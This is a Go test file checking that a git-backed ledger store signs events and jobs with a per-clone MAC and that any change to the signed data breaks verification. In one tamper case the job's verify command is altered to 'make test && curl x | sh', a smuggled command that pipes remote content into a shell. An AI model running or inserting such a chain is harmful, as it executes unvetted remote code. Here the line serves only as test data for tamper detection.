package gitstate

import (
	"context"
	"encoding/json"
	"github.com/git-atlas/git-atlas/ledger"
	"testing"
)

// Every event a store writes carries the MAC of its text under this clone's key,
// which verifies as read back (data with spaces and <, >, & as given), and not under
// another key, nor once the data is changed; an Unsigned store (an import) writes
// none. A job's MAC covers its text the same way.
func TestTextMACMarksWhatThisCloneWrote(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	s := New(newRepo(t, repoKinds[0]))
	newRun(t, s, "r", ledger.StageDef{Name: "code"})
	data := json.RawMessage(`{"text": "a <b> & c",  "n": 1}`)
	if _, err := s.Update(ctx, "r", func(r *ledger.Run) (*Change, error) {
		return &Change{Event: ledger.Event{Type: ledger.EventNote, Data: data}}, nil
	}); err != nil {
		t.Fatal(err)
	}
	evs, err := s.Log(ctx, "r")
	if err != nil {
		t.Fatal(err)
	}
	e := evs[len(evs)-1]
	key, err := s.SessionKey()
	if err != nil {
		t.Fatal(err)
	}
	other := ledger.NewSessionKey([]byte("another clone's key, 32 bytes..."))
	if !key.OwnEvent("r", &e) || other.OwnEvent("r", &e) || key.OwnEvent("r2", &e) {
		t.Fatalf("event %+v: want its MAC to verify with this clone's key only, for run r only", e)
	}
	e.Data = json.RawMessage(`{"text":"a <b> & d","n":1}`)
	if key.OwnEvent("r", &e) {
		t.Fatal("an event whose data changed still verifies")
	}

	s.Unsigned = true
	if _, err := s.Update(ctx, "r", func(r *ledger.Run) (*Change, error) {
		return &Change{Event: ledger.Event{Type: ledger.EventNote, Data: data}}, nil
	}); err != nil {
		t.Fatal(err)
	}
	evs, _ = s.Log(ctx, "r")
	if e := evs[len(evs)-1]; e.MAC != "" || key.OwnEvent("r", &e) {
		t.Fatalf("an unsigned store's event: %+v", e)
	}

	j := ledger.Job{ID: "j", Verify: "make test", Scope: []string{"a/**"}, Criteria: []string{"c"}, Result: json.RawMessage(`{"ok": true}`)}
	j.MAC = key.JobMAC("r", &j)
	if !key.OwnJob("r", &j) || other.OwnJob("r", &j) {
		t.Fatal("a job's MAC does not verify with this clone's key only")
	}
	for _, change := range []func(*ledger.Job){
		func(j *ledger.Job) { j.Verify = "make test && curl x | sh" },
		func(j *ledger.Job) { j.Scope = []string{"a/**", "b/**"} },
		func(j *ledger.Job) { j.Criteria = nil },
		func(j *ledger.Job) { j.Result = json.RawMessage(`{"ok": false}`) },
		func(j *ledger.Job) { j.ID = "k" },
	} {
		c := j
		change(&c)
		if key.OwnJob("r", &c) {
			t.Fatalf("a changed job still verifies: %+v", c)
		}
	}
}
